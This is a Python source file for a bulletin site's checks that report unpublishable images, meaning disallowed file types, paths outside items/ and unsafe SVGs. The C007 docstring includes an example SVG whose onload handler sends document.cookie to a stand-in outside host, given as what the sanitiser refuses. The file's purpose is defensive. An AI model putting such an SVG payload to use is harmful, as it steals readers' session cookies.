"""C006 and C007: pictures the site will not publish.

C006 reads an item's image references (``![alt](chart.png)`` and reference
definitions used by images) and reports those the site leaves out by their name:
a type not on the allowlist (:data:`bulletin.media.KINDS`), or a path that leaves
``items/``. C007 is found by the check's reading of the pictures themselves
(:mod:`bulletin.check.analyse`, with :func:`bulletin.media.inspect`): content that
is not what the name says, or an SVG the sanitiser refuses, located in the file.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from urllib.parse import unquote, urlsplit

from ....diagnostics import Finding, Severity
from ....media import allowed_list, kind_of
from ....model import Item
from ...prose import mask_code
from ..registry import Context, rule
from .locate import MAX_PER_ITEM, Positions

E = Severity.ERROR

# Linear: each search starts at "![" and no part runs past the next "[" or line end.
_IMAGE = re.compile(r"!\[[^\[\]\n]*\]\([ \t]*<?([^)\s>\[\]]*)")
_IMAGE_REF = re.compile(r"!\[([^\[\]\n]*)\](?:\[([^\[\]\n]*)\])?")
_REF_DEF = re.compile(r"^ {0,3}\[([^\[\]\n]+)\]:[ \t]*<?([^\s>]*)", re.M)


def _label(text: str) -> str:
    return " ".join(text.split()).casefold()


def image_targets(text: str) -> Iterator[tuple[int, str]]:
    """(offset, address) of each image in code-masked ``text``: inline images, and the
    definitions of the references images use."""
    for m in _IMAGE.finditer(text):
        yield m.start(1), m.group(1)
    if "]:" not in text:
        return
    labels = {_label(m.group(2) or m.group(1)) for m in _IMAGE_REF.finditer(text)}
    for m in _REF_DEF.finditer(text):
        if _label(m.group(1)) in labels:
            yield m.start(2), m.group(2)


def _problem(item_path: str, target: str) -> str | None:
    """Why the site leaves out the picture at ``target`` (relative to the item), if it does."""
    parts = urlsplit(target)
    if parts.scheme or parts.netloc or not parts.path:
        return None  # outside addresses are C005's
    path = posixpath.normpath(posixpath.join(posixpath.dirname(item_path), unquote(parts.path)))
    if not path.startswith("items/") or ".." in path.split("/"):
        return "the picture is outside items/: the site publishes only pictures kept beside items"
    if kind_of(path) is None:
        ext = posixpath.splitext(path)[1] or "a file without an extension"
        return (f"'{ext}' is not a picture the site publishes ({allowed_list()}); readers see "
                "only the alt text")
    return None


@rule("C006", "unpublished-picture", E, "item")
def unpublished_picture(item: Item, ctx: Context) -> Iterator[Finding]:
    """An image the site will not publish, by its name.

    ## What it does
    Reports images in an item's body (`![alt](file)`, and `![alt][ref]` with its
    `[ref]: file`) whose file the site never publishes: a type other than PNG,
    JPEG, GIF, WebP and SVG (an `.html`, `.pdf`, `.bmp` ...), or a path that
    leaves `items/`. Outside addresses are C005's.

    ## Why
    The site serves pictures from its own address: a file that a browser would
    run as a page (HTML, a script) would run there with the site's rights when
    a reader opens it. So only picture types are published, and the reader of
    an item with any other "image" sees just its alt text.

    ## Example
    `![Inspection report](report.pdf)` / `![水位图](../../../docs/chart.png)` /
    `![Chart](chart.html)`

    ## Use instead
    Save the picture as PNG, JPEG or SVG beside the item:
    `![Water levels by site](water-levels.png)` / `![水位图](water-levels.svg)`.
    Cite a document in `sources` instead of showing it.
    """
    text = mask_code(item.body)
    if "![" not in text:
        return
    at = Positions(text, item.body_line)
    count = 0
    for offset, target in image_targets(text):
        problem = _problem(item.path, target)
        if problem is not None and count < MAX_PER_ITEM:
            count += 1
            yield Finding("C006", problem, *at(offset))


@rule("C007", "unsafe-picture", E, "load")
def unsafe_picture(_: object, __: Context) -> Iterator[Finding]:  # pragma: no cover
    """A picture beside the items that the site refuses to publish.

    ## What it does
    Reads every picture under `items/` (`.png`, `.jpg`, `.jpeg`, `.gif`,
    `.webp`, `.svg`) as the build does, and reports, at the line and column in
    the file, why the build would leave it out: content that is not what the
    name says (a `.png` holding HTML), XML that is not well-formed, or an
    SVG that holds what a published picture never may —
    `<script>`, `<foreignObject>`, links and animation, event handlers
    (`onload=`), references to other documents (`href` other than `#id`,
    `url(...)` other than `url(#id)`, `@import`), `javascript:`, or a DOCTYPE
    that declares entities. (A picture over 8 MB is refused too, as S001.)

    ## Why
    A picture is served from the site's own address. Opened on its own, an SVG
    with a script runs that script with the site's rights: it could read every
    page the reader may see. And a picture that loads from elsewhere tells that
    host who reads the bulletin. The build publishes only what its sanitiser
    has re-written from allowed elements; the check tells the writer first.

    ## Example
    ```xml
    <svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//x.example/'+document.cookie)">
      <script>alert(1)</script>
      <image href="https://charts.example.com/a.png"/>
    </svg>
    ```
    （SVG 图片中含有脚本、事件属性或外部引用，网站不予发布。）

    ## Use instead
    Export the chart again as a plain drawing (Inkscape: *Save As → Plain SVG*;
    or PNG), with every part inside the file:
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50"><path d="…"/></svg>`.
    （请导出为普通 SVG 或 PNG 图片，图中所有内容都应在文件之内。）
    """
    return iter(())  # found while the check reads the pictures (check/analyse.py)
